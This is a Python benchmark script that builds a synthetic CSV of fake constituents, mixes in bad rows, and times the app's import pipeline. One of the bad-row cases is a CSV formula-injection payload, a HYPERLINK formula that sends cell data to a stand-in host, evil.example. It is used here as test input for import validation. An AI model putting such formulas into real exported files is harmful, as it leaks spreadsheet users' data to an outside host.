"""CSV import of constituents at scale, with bad rows mixed in.

    python bench/import_csv.py [--rows 100000] [--bad-share 0.02] [--database-url URL]

Writes a Windows-1252 CSV of --rows people (semicolon separated, a leading-zero ZIP lost here and
there, a share of bad rows: formulas like =HYPERLINK(...), bad emails, bad ZIPs, empty rows, and a
share of people already on file), then times the upload step (decode, sniff, count and store) and
the import job, and checks that every row is accounted for: created + matched + bad == rows.
Prints JSON and writes bench/results/import_csv.json.
"""

from __future__ import annotations

import argparse
import io
import json
import random
import resource
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from sqlalchemy import func, select  # noqa: E402

from config import Settings  # noqa: E402
from constituents import imports  # noqa: E402
from correspondence.db import Database  # noqa: E402
from correspondence.migrate import upgrade  # noqa: E402
from correspondence.models import Constituent, ConstituentEmail, ConstituentImport  # noqa: E402

FIRST = ("Ana", "José", "Wei", "Mary", "John", "Fatima", "Olga", "Sam", "Lee", "Priya")
LAST = ("García", "Nguyen", "Smith", "O'Brien", "Müller", "Johnson", "Kowalski", "Brown", "Lee", "Díaz")


def make_csv(rows: int, bad_share: float, existing: int, rng: random.Random) -> tuple[bytes, int]:
    out = io.StringIO()
    out.write("First Name;Last Name;E-mail;Phone;Street;City;ST;Zip;Tags\r\n")
    bad = 0
    for i in range(rows):
        roll = rng.random()
        first, last = rng.choice(FIRST), rng.choice(LAST)
        email = f"person{i}@example.org" if i >= existing else f"known{i}@example.org"
        zip_code = rng.choice(("02134", "2134", "43215", "43215-1234", "10001"))
        phone = f"(614) 555-{i % 10000:04d}"
        if roll < bad_share:
            bad += 1
            kind = i % 4
            if kind == 0:
                first = '=HYPERLINK("http://evil.example/?"&A1,"click")'
            elif kind == 1:
                email = "not-an-email"
            elif kind == 2:
                zip_code = "ABCDE"
            else:
                out.write(";;;;;;;;\r\n")
                continue
        out.write(f"{first};{last};{email};{phone};{rng.randint(1, 999)} Main St;Columbus;OH;{zip_code};"
                  f"{'veteran' if i % 10 == 0 else ''}\r\n")
    return out.getvalue().encode("cp1252"), bad


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--rows", type=int, default=100_000)
    ap.add_argument("--bad-share", type=float, default=0.02)
    ap.add_argument("--existing", type=int, default=1000, help="people already on file (matched by email)")
    ap.add_argument("--database-url", default=None)
    args = ap.parse_args()
    workdir = Path(tempfile.mkdtemp(prefix="mailroom-import-"))
    url = args.database_url or f"sqlite:///{workdir / 'bench.db'}"
    settings = Settings.from_env({}, instance_dir=workdir, database_url=url, secret_key="bench",
                                 redis_url="redis://unused", testing=False)
    upgrade(settings.database_url)
    db = Database.from_settings(settings, immediate=True)
    with db.unit_of_work() as s:
        for i in range(args.existing):
            person = Constituent(first_name="Known", last_name=f"Person{i}")
            person.emails.append(ConstituentEmail(address=f"known{i}@example.org"))
            s.add(person)
    data, bad = make_csv(args.rows, args.bad_share, args.existing, random.Random(3))
    t0 = time.perf_counter()
    with db.unit_of_work() as s:
        imp = imports.upload(s, data, "people.csv", actor_id=None)  # type: ignore[arg-type]  # a bench run has no staffer
        imports.start(s, imp.id, dict(imp.mapping or {}), "bench import",
                      actor_id=None)  # type: ignore[arg-type]  # a bench run has no staffer
        import_id = imp.id
    upload_s = time.perf_counter() - t0
    t1 = time.perf_counter()
    imports.run_import(db, import_id)
    job_s = time.perf_counter() - t1
    with db.unit_of_work() as s:
        done = s.get(ConstituentImport, import_id)
        assert done is not None
        imp = done
        people = s.scalar(select(func.count()).select_from(Constituent))
        result = {
            "backend": db.engine.dialect.name, "rows": args.rows, "bytes": len(data), "bad_rows_written": bad,
            "upload_seconds": round(upload_s, 2), "import_seconds": round(job_s, 2),
            "rows_per_second": round(args.rows / job_s), "created": imp.created, "matched": imp.matched,
            "bad": imp.bad, "accounted_for": imp.created + imp.matched + imp.bad == args.rows,
            "constituents_after": people,
            "peak_rss_mb": round(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024),
        }
    print(json.dumps(result, indent=2))
    (Path(__file__).parent / "results" / "import_csv.json").write_text(json.dumps(result, indent=2) + "\n")


if __name__ == "__main__":
    main()
